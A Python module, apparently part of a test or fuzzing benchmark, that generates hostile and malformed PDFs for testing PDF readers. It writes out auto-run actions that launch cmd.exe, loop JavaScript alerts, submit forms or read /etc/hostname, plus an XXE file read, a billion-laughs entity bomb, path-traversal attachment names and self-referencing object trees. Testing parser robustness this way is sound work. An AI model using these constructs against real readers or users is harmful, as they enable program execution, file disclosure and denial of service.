"""What a file would like to happen: scripts, programs, connections, attachments, forms; and trees of such things that never end."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.hostile.raw import MEDIA, Family, one_page, stream

Variants = Iterator[tuple[str, bytes]]

ACTIONS = {
    "script": b"<</S/JavaScript/JS(while\\(true\\){app.alert\\('x'\\)})>>",
    "program": b"<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "address": b"<</S/URI/URI(http://example.invalid/policy?opened)>>",
    "submission": b"<</S/SubmitForm/F<</FS/URL/F(http://example.invalid/form)>>/Flags 4>>",
    "other file": b"<</S/GoToR/F(\\\\\\\\example.invalid\\\\share\\\\policy.pdf)/D[0/Fit]>>",
    "import": b"<</S/ImportData/F(/etc/hostname)>>",
    "embedded file": b"<</S/GoToE/T<</R/C/N(program.exe)>>/D[0/Fit]>>",
    "film": b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(http://example.invalid/film)>>>>>>",
    "chain without end": b"<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>",
}


def on_opening(_seed: int) -> Variants:
    for name, action in ACTIONS.items():
        yield name, one_page(catalog=b"/OpenAction 6 0 R", more=(action,)).written()


def on_the_page(_seed: int) -> Variants:
    for name, action in ACTIONS.items():
        note = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 700]/A 6 0 R/AA<</PO 6 0 R/PV 6 0 R>>>>"
        yield name, one_page(page=MEDIA + b"/AA<</O 6 0 R/C 6 0 R>>/Annots[7 0 R]", more=(action, note)).written()


def in_fields(_seed: int) -> Variants:
    for name, action in ACTIONS.items():
        field = (
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(limit)/V(USD 1,000,000)/Rect[72 600 300 620]/AA<</F 6 0 R/C 6 0 R/V 6 0 R/K 6 0 R>>>>"
        )
        page = MEDIA + b"/Annots[7 0 R]"
        yield name, one_page(page=page, catalog=b"/AcroForm<</Fields[7 0 R]/CO[7 0 R]>>", more=(action, field)).written()


def attachments(_seed: int) -> Variants:
    for name, content in (
        ("program.exe", b"MZ" + bytes(1000)),
        ("../../policy.pdf", one_page().written()),
        ("x" * 5000, b"long"),
        ("\x00", b"?"),
    ):
        tree = b"<</EmbeddedFiles<</Names[(%s) 6 0 R]>>/JavaScript<</Names[(a) 7 0 R]>>>>" % name.encode()
        described = b"<</Type/Filespec/F(%s)/EF<</F 8 0 R>>>>" % name.encode()
        more = (described, ACTIONS["script"], stream(content, b"/Type/EmbeddedFile"))
        yield name[:20].replace("/", "_").replace("\x00", "zero"), one_page(catalog=b"/Names" + tree, more=more).written()
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>"
    yield "note with itself", one_page(page=MEDIA + b"/Annots[6 0 R]", more=(note,)).written()
    yield (
        "portfolio of itself",
        one_page(
            catalog=b"/Collection<</D(a)>>/Names<</EmbeddedFiles 6 0 R>>", more=(b"<</Kids[6 0 R 6 0 R]/Names[(a) 6 0 R]>>",)
        ).written(),
    )


def xfa(_seed: int) -> Variants:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (level + 1, b"&l%d;" % level * 10) for level in range(9))
    packets = {
        "please wait": b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>",
        "a billion laughs": b"<!DOCTYPE x [<!ENTITY l0 'ha'>%s]><x>&l9;</x>" % laughs,
        "another file": b"<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/hostname'>]><x>&f;</x>",
        "deep": b"<a>" * 100_000,
        "noise": bytes(range(256)) * 100,
        "none": b"",
    }
    wait = b"BT /F1 11 Tf 72 700 Td (Please wait... If this message is not replaced, your program cannot show this form.) Tj ET"
    for name, packet in packets.items():
        form = b"/NeedsRendering true/AcroForm<</Fields[]/XFA[(template) 6 0 R (datasets) 6 0 R]>>"
        yield name, one_page(wait, catalog=form, more=(stream(packet),)).written()
    for value in (b"6 0 R", b"[(template)]", b"(text)", b"17", b"[6 0 R 6 0 R 6 0 R]"):
        yield f"packets {value.decode()}", one_page(catalog=b"/AcroForm<</Fields[]/XFA %s>>" % value, more=(b"null",)).written()


def fields(_seed: int) -> Variants:
    bodies = {
        "kid of itself": b"<</FT/Tx/T(a)/Kids[6 0 R]>>",
        "parent of itself": b"<</FT/Tx/T(a)/Parent 6 0 R/Subtype/Widget/Rect[0 0 9 9]>>",
        "value of itself": b"<</FT/Tx/T(a)/V 6 0 R/Subtype/Widget/Rect[0 0 9 9]>>",
        "value 5 MB": b"<</FT/Tx/T(a)/V(%s)/Subtype/Widget/Rect[0 0 9 9]>>" % (b"x" * 5_000_000),
        "choices 100,000": b"<</FT/Ch/T(a)/Opt[%s]/V(x)/Subtype/Widget/Rect[0 0 9 9]>>" % (b"(x)" * 100_000),
        "place NaN": b"<</FT/Tx/T(a)/V(x)/Subtype/Widget/Rect[NaN 1e38 /x]>>",
        "look of itself": b"<</FT/Btn/T(a)/Subtype/Widget/Rect[0 0 9 9]/AP<</N 6 0 R>>/AS/On>>",
        "signature of noise": b"<</FT/Sig/T(a)/V<</Type/Sig/ByteRange[0 -1 99999999999 5]/Contents<00ff>>>/Subtype/Widget/Rect[0 0 9 9]>>",
        "a number": b"7",
    }
    for name, body in bodies.items():
        yield (
            name,
            one_page(page=MEDIA + b"/Annots[6 0 R]", catalog=b"/AcroForm<</Fields[6 0 R]/NeedAppearances true>>", more=(body,)).written(),
        )
    chain = tuple(b"<</T(a)/Kids[%d 0 R]/Parent %d 0 R>>" % (7 + level, 5 + level) for level in range(10_000))
    yield "10,000 deep", one_page(catalog=b"/AcroForm<</Fields[6 0 R]>>", more=(*chain, b"<</FT/Tx/V(end)>>")).written()
    yield (
        "100,000 notes",
        one_page(
            page=MEDIA + b"/Annots[%s]" % (b"6 0 R " * 100_000), more=(b"<</Subtype/FreeText/Rect[0 0 9 9]/Contents(note)>>",)
        ).written(),
    )


def trees(_seed: int) -> Variants:
    bodies = {
        "bookmarks in a ring": (
            b"/Outlines 6 0 R",
            b"<</First 7 0 R/Last 7 0 R/Count 9>>",
            b"<</Title(a)/Next 7 0 R/Prev 7 0 R/First 7 0 R>>",
        ),
        "names in a ring": (b"/Names<</Dests 6 0 R>>", b"<</Kids[7 0 R]>>", b"<</Kids[6 0 R]/Limits[(a)(z)]>>"),
        "labels in a ring": (b"/PageLabels 6 0 R", b"<</Kids[7 0 R]>>", b"<</Kids[6 0 R]>>"),
        "labels wild": (b"/PageLabels 6 0 R", b"<</Nums[-5 7 0 R 99999999 7 0 R]>>", b"<</S/R/St 2147483647/P(\xff\xfe)>>"),
        "structure in a ring": (b"/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>", b"<</K 7 0 R>>", b"<</S/P/K[7 0 R 6 0 R]/P 7 0 R>>"),
        "layers odd": (b"/OCProperties<</OCGs[6 0 R 7]/D<</ON 6 0 R/Order[[[[6 0 R]]]]>>>>", b"<</Type/OCG/Name 6 0 R>>", b"null"),
        "target of itself": (b"/Dests<</a 6 0 R>>/OpenAction 6 0 R", b"[6 0 R/XYZ NaN NaN NaN]", b"null"),
        "description noise": (b"/Metadata 6 0 R/Lang 6 0 R/ViewerPreferences 6 0 R", stream(b"<?xpacket \xff\xfe<x:xmpmeta>"), b"null"),
    }
    for name, (catalog, *more) in bodies.items():
        yield name, one_page(catalog=catalog, more=tuple(more)).written(b"/Info 6 0 R")


FAMILIES: tuple[Family, ...] = (on_opening, on_the_page, in_fields, attachments, xfa, fields, trees)
